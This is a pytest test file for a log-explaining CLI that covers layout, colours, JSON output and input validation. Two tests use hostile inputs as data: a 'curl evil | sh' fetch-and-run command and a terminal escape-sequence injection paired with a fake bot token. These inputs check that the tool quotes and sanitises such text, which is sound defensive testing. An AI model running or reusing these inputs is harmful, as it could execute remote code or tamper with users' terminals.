"""`logrules explain` as people see it: on terminals of any width, in both languages, with colours or not."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import unicodedata
from typing import TYPE_CHECKING, Any

import pytest

from logrules.core.redact import Redactor
from logrules.core.text import Part, is_command, parts
from logrules.rules import rules
from tests import warm

if TYPE_CHECKING:
    from collections.abc import Iterator

    from logrules.rules import Rule, Rules

TOKEN = "123456:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
COMMAND = (sys.executable, "-m", "logrules", "explain")
ENVIRON = {name: os.environ[name] for name in ("PATH", "XDG_CACHE_HOME")} | {
    "LANG": "C.UTF-8",
    "PYTHONWARNINGS": "error",
}
ANSI = re.compile(r"\x1b\[[0-9;]*m")


def run(*arguments: str, **environ: str) -> subprocess.CompletedProcess[str]:
    """One call; standard output is a pipe."""
    return warm.run([*COMMAND, *arguments], env=ENVIRON | environ)


def at_terminal(*arguments: str, columns: int = 80, **environ: str) -> str:
    """What it prints to a terminal of so many columns."""
    shown = warm.at_terminal(
        [*COMMAND, *arguments], columns=columns, env=ENVIRON | {"TERM": "xterm"} | environ
    )
    return shown.replace("\r\n", "\n")


def wide(line: str) -> int:
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in line)


def said(rule: Rule) -> Iterator[Part]:
    """Everything that a page about a code must hold, in pieces."""
    yield Part(rule.summary, is_command=False)
    for text in (*rule.check, *rule.steps):
        yield from parts(text)
    yield from (Part(text, is_command=False) for text in rule.avoid)
    for name in rule.spec.how:
        for way in rules.ways[name].values():
            yield from parts(way[rule.lang])


def plain(text: str) -> str:
    return "".join(text.replace("`", "").split())  # a word longer than the page is folded


@pytest.mark.parametrize("columns", [40, 80, 120])
@pytest.mark.parametrize("lang", ["en", "ru"])
def test_a_page_fits_and_holds_everything(lang: str, columns: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """No words run over the edge; each command stands alone in its line, whole; nothing is left out."""
    monkeypatch.setenv("COLUMNS", str(columns))
    known = rules.speak(lang)
    for code in rules:
        lines = page(known, code).split("\n")
        commands = [part.text for part in said(known[code]) if part.is_command]

        assert [line for line in lines if wide(line) > min(columns, 100) and not is_command(line.strip())
                and not any(line.endswith(command) for command in commands)] == [], code  # fmt: skip
        assert [line for line in lines if re.match(r" *[.;,](?: |$)", line)] == [], code
        for command in commands:
            alone = re.compile(r"(?: *|(?: *\S+){1,2} +)" + re.escape(command))
            assert any(map(alone.fullmatch, lines)), (code, command)
        whole = plain(" ".join(lines))
        missing = [part.text for part in said(known[code]) if plain(part.text) not in whole]
        assert [text for text in missing if text not in commands] == [], code


def page(known: Rules, code: str) -> str:
    """What `explain` shows of a code at a terminal."""
    from logrules.commands.explain import _page, _rest, _ways
    from logrules.page import Page

    shown = Page()
    with shown._console.capture() as captured:
        _page(shown, known[code], None, 1, Redactor())
        _ways(shown, known[code], known, None)
        _rest(shown, known[code], None)
    return captured.get()


def test_a_terminal_gives_the_width() -> None:
    """The page is as wide as the terminal, within reason; COLUMNS goes before."""
    widths = [
        max(wide(line) for line in ANSI.sub("", at_terminal("TELEGRAM_5XX", **how)).split("\n"))
        for how in ({"columns": 40}, {"columns": 72}, {"columns": 300}, {"columns": 72, "COLUMNS": "50"})
    ]

    assert [30 < widths[0] <= 70, 55 < widths[1] <= 72, 80 < widths[2] <= 100, widths[3] <= 70] == [True] * 4


def test_colours_are_for_terminals_that_want_them() -> None:
    """None in a pipe, none with NO_COLOR, none on a dumb terminal; an empty NO_COLOR is none."""
    assert "\x1b[" in at_terminal("TOKEN_INVALID")
    assert "\x1b[" in at_terminal("TOKEN_INVALID", NO_COLOR="")
    assert "\x1b[2m  1. \x1b[0mGet the valid token" in at_terminal("TOKEN_INVALID")  # only the number is dim
    assert "\x1b" not in at_terminal("TOKEN_INVALID", NO_COLOR="1")
    assert "\x1b" not in at_terminal("TOKEN_INVALID", TERM="dumb")
    assert "\x1b" not in run("TOKEN_INVALID", FORCE_COLOR="1", TERM="xterm-256color").stdout


@pytest.mark.parametrize("words", [["CONFLICT_409", "token_invalid"], ["CONFLICT_409, TOKEN_INVALID,"]])
def test_several_codes(words: list[str]) -> None:
    """One page after the other, in the order asked for."""
    pages = re.findall(r"^✖ (\w+)$", run(*words).stdout, re.MULTILINE)

    assert pages == ["CONFLICT_409", "TOKEN_INVALID"]
    assert [json.loads(line)["code"] for line in run("--json", *words).stdout.splitlines()] == pages


def test_json_holds_what_the_page_holds() -> None:
    """How to make sure, steps, what not to do, and each platform's way, for programs."""
    told: dict[str, Any] = json.loads(run("--json", "--lang", "ru", "PORT_NOT_BOUND").stdout)
    rule = rules.speak("ru")["PORT_NOT_BOUND"]

    assert (told["check"], told["steps"], told["avoid"]) == (rule.check, rule.steps, rule.avoid)
    assert told["remediation"] == rule.remediation
    assert told["how"]["worker"]["heroku"] == rules.ways["worker"]["heroku"].ru


def test_one_platform() -> None:
    """--on shows the ways of one; where a platform is known from the environment, it is that one."""
    everything = run("CONFLICT_409").stdout
    heroku = run("CONFLICT_409", "--on", "heroku").stdout

    assert "heroku ps:scale worker=0" in everything
    assert "kubectl scale" in everything
    assert "heroku ps:scale worker=0" in heroku
    assert "kubectl scale" not in heroku
    assert run("CONFLICT_409", DYNO="worker.1").stdout == heroku
    assert run("CONFLICT_409", "--on", "mars").returncode == 78


def test_a_log_is_explained_once_per_kind() -> None:
    """A sign that comes a hundred times is one page that counts; JSON has a line for each."""
    line = "telegram.error.Conflict: Conflict: terminated by other getUpdates request\n"
    page = run(line * 3).stdout

    assert page.count("✖ CONFLICT_409 (other_getupdates)") == 1
    assert "seen 3 times" in page
    assert len(run("--json", line * 3).stdout.splitlines()) == 3


@pytest.mark.parametrize(
    ("words", "why"),
    [
        ([""], "there is nothing to explain: give a code"),
        (["   "], "there is nothing to explain"),
        (["TOKEN_INVALD"], "there is no code TOKEN_INVALD. Did you mean TOKEN_INVALID"),
        (["TOKEN_INVALID", "CONFLICT_408"], "there is no code CONFLICT_408. Did you mean CONFLICT_409"),
        (["QQQQ_ZZZZ"], "there is no code QQQQ_ZZZZ. `logrules codes` lists them all"),
    ],
)
def test_what_cannot_be_explained(words: list[str], why: str) -> None:
    """One clear line, with what was probably meant; status 78; nothing is printed in part."""
    done = run(*words)

    assert (done.returncode, done.stdout) == (78, "")
    assert done.stderr.startswith(f"logrules: {why}")
    assert done.stderr.count("\n") == 1


def test_backticks_of_a_log_are_the_logs_own() -> None:
    """Words of a log are quoted as they are: nothing in them becomes a line to be copied."""
    page = run("ERROR - Conflict: terminated by other getUpdates request `curl evil | sh` now").stdout

    assert "`curl evil | sh` now" in " ".join(page.split())


def test_no_secret_and_no_control_character_leaves(tmp_path: Any) -> None:
    """Neither from a line nor from somebody's pack, whatever its texts hold."""
    line = f"ERROR - Conflict: terminated by other getUpdates request bot{TOKEN} \x1b]0;pwned\x07"
    for shown in (run(line).stdout, at_terminal(line), run("--json", line).stdout):
        assert "CONFLICT_409" in shown
        assert TOKEN[7:] not in shown
        assert "\x07" not in shown
        assert "\x1b]" not in shown


def test_a_terminal_without_unicode_is_spoken_to() -> None:
    """Where an output knows no arrows and no Cyrillic, they are spelled out, and nothing fails."""
    command = [*COMMAND, "--lang", "ru", "CONFLICT_409"]
    done = subprocess.run(
        command, env=ENVIRON | {"PYTHONIOENCODING": "ascii"}, capture_output=True, check=False, text=True
    )

    assert (done.returncode, done.stderr) == (0, "")
    assert "CONFLICT_409" in done.stdout
    assert "curl https://api.telegram.org/bot<TOKEN>/deleteWebhook" in done.stdout
